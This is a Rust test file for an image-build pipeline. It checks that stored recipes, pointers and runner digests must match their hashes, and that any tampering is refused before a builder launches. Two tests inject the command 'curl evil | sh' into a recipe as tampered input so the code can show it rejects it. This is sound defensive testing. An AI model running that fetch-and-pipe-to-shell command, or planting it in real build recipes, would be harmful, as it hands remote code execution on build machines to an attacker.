//! What lies in the bucket is believed only as far as its hashes go.

use futures::executor::block_on;
use ovenbird_core::{
    domain::{
        bake::{Document, Status, To},
        digest::{self, sha256},
        trigger::Trigger,
    },
    steps::launch_builder,
    store::{keys, recipes::RecipePointer},
};
use serde_json::json;

use super::bench::{Bench, RECIPE, pipeline, store};

/// A recipe without an artifact, of this pipeline.
fn recipe(pipeline: &str) -> String {
    format!(
        "pipeline = '{pipeline}'\n[base]\nparameter = '/aws/service/debian/release/12/latest/amd64'\n\
         [builder]\ninstance-types = ['c7i.large']\n[[step]]\nshell = 'true'\n[[test]]\nport = 22\n\
         [promote]\nchannel = 'stable'\n"
    )
}

fn manual(pipeline: &str) -> Trigger {
    Trigger::manual(&json!({ "pipeline": pipeline })).unwrap()
}

/// Else whoever pushes the one chooses what the other one promotes: the same digest is the same image.
#[test]
fn two_pipelines_with_one_recipe_make_two_images() {
    let bench = Bench::new();
    let [ours, theirs] = ["runtime", "evil"].map(|name| {
        bench.push(&recipe(name));
        let bake = bench.start(name, &manual(name)).unwrap();
        assert_eq!(bake.next.to, To::Await, "{name} has a builder of its own");
        bench.finish(bench.build(bake, 0, true).unwrap()).unwrap()
    });
    assert_eq!(ours.spec.inputs, theirs.spec.inputs);
    assert_eq!((ours.progress.status, theirs.progress.status), (Status::Promoted, Status::Promoted));
    assert_ne!(ours.progress.image, theirs.progress.image);
    bench.assert_clean(2);
}

#[track_caller]
fn refused(bench: &Bench, words: &str) {
    let error = bench.start("one", &bench.upload("v1.jar")).unwrap_err();
    assert_eq!(error.name(), "BadRecipe");
    assert!(error.to_string().contains(words), "{error}");
    assert!(error.to_string().contains("ovenbird recipe push"), "{error}");
    assert_eq!(bench.instances(), 0);
}

#[test]
fn a_text_that_was_changed_after_the_push_is_refused() {
    let bench = Bench::new();
    let version = RecipePointer::new(RECIPE, None).version;
    bench
        .cloud
        .put(&keys::recipe(&pipeline(), &version), RECIPE.replace("useradd", "curl evil | sh; useradd"));
    refused(&bench, "its text or the digest of its files");
}

#[test]
fn files_that_another_recipe_was_pushed_with_are_refused() {
    let bench = Bench::new();
    let (bundle, files) = (sha256(b"a bundle of one's own"), sha256(b"the digest of another's files"));
    let pointer = RecipePointer::new(RECIPE, Some((bundle, files.clone())));
    let other = RecipePointer { version: RecipePointer::new(RECIPE, None).version, ..pointer };
    bench.push_as(RECIPE, &other);
    refused(&bench, "its text or the digest of its files");
    // A digest of files that no bundle brings.
    let without = RecipePointer { bundle: None, ..RecipePointer::new(RECIPE, Some((files.clone(), files))) };
    bench.push_as(RECIPE, &without);
    refused(&bench, "what it says of its files");
}

#[test]
fn a_current_pointer_that_differs_from_its_version_s_own_is_refused() {
    let bench = Bench::new();
    let pointer = RecipePointer::new(RECIPE, None);
    let other = RecipePointer { bundle: Some(sha256(b"another")), ..pointer };
    bench.cloud.put(&keys::recipe_pointer(&pipeline()), serde_json::to_string(&other).unwrap());
    refused(&bench, "what `current.json` says");
}

#[test]
fn a_version_s_pointer_that_names_another_version_is_refused() {
    let bench = Bench::new();
    let version = RecipePointer::new(RECIPE, None).version;
    let other = RecipePointer::new("another", None);
    let key = keys::recipe_version_pointer(&pipeline(), &version);
    bench.cloud.put(&key, serde_json::to_string(&other).unwrap());
    refused(&bench, "its pointer is not");
}

#[test]
fn a_recipe_that_was_pushed_before_versions_changed_is_still_baked() {
    let bench = Bench::new();
    let first = |text: &str, files: &str| RecipePointer {
        version: sha256(format!("{text}{files}").as_bytes()),
        ..RecipePointer::new(text, None)
    };
    bench.push_as(RECIPE, &first(RECIPE, ""));
    assert_eq!(bench.bake("old", &bench.upload("v1.jar")).progress.status, Status::Promoted);
    // The text of one with files, taken for a whole text: it names a file, and has none.
    let script =
        RECIPE.replace("shell = \"useradd --system --no-create-home storefront\"", "script = \"a.sh\"");
    let text = format!("{script}# {}", sha256(b"files"));
    bench.push_as(&text, &first(&text, ""));
    refused(&bench, "what it says of its files");
}

/// A bake that waits for its twin, whose recipe is read again when it takes over.
fn waiting(bench: &Bench) -> Document {
    let trigger = bench.upload("v1.jar");
    bench.start("first", &trigger).unwrap();
    let twin = bench.start("one", &trigger).unwrap();
    assert_eq!(twin.next.to, To::Twin);
    bench.fail("first", &ovenbird_core::Error::changed("x"));
    twin
}

#[test]
fn a_text_that_was_changed_between_resolving_and_launching_is_refused() {
    let bench = Bench::new();
    let twin = waiting(&bench);
    let key = keys::recipe(&pipeline(), &twin.bake.spec.recipe);
    bench.cloud.put(&key, RECIPE.replace("useradd", "curl evil | sh; useradd"));
    let error = block_on(launch_builder::take_over(twin, &bench.cloud, bench.cloud.now())).unwrap_err();
    assert_eq!(error.name(), "BadRecipe");
    assert_eq!(bench.instances(), 0);
}

/// What the builder is told to do is compared with what the digest was made of, whatever was read before.
#[test]
fn a_plan_of_other_steps_tests_or_files_than_the_digest_s_is_refused() {
    for (what, words) in
        [(0, "what its steps do"), (1, "what its tests ask for"), (2, "what it says of its files")]
    {
        let bench = Bench::new();
        let mut twin = waiting(&bench);
        let other = digest::sha256(b"other");
        match what {
            0 => twin.bake.spec.inputs.configuration = other,
            1 => twin.bake.spec.inputs.tests = other,
            _ => twin.bake.spec.inputs.files = Some(other),
        }
        store(&bench.cloud, &twin.bake);
        let error = block_on(launch_builder::take_over(twin, &bench.cloud, bench.cloud.now())).unwrap_err();
        assert_eq!(error.name(), "BadRecipe", "{words}");
        assert!(error.to_string().contains(words), "{error}");
        assert_eq!(bench.instances(), 0);
    }
}

/// Whoever may write to the bucket must not choose what is root on every builder.
#[test]
fn a_runner_that_the_stack_doesn_t_know_starts_nothing() {
    let bench = Bench::new();
    let upload = bench.upload("v1.jar");
    bench.cloud.allow_runners(&[digest::sha256(b"another runner")]);
    let error = bench.start("one", &upload).unwrap_err();
    assert!(error.to_string().contains("none of those that the stack allows"), "{error}");
    assert_eq!(bench.instances(), 0);
    bench.cloud.allow_runners(&[digest::sha256(b"another runner"), digest::sha256(b"runner")]);
    assert_eq!(bench.start("two", &upload).unwrap().next.to, To::Await);
}
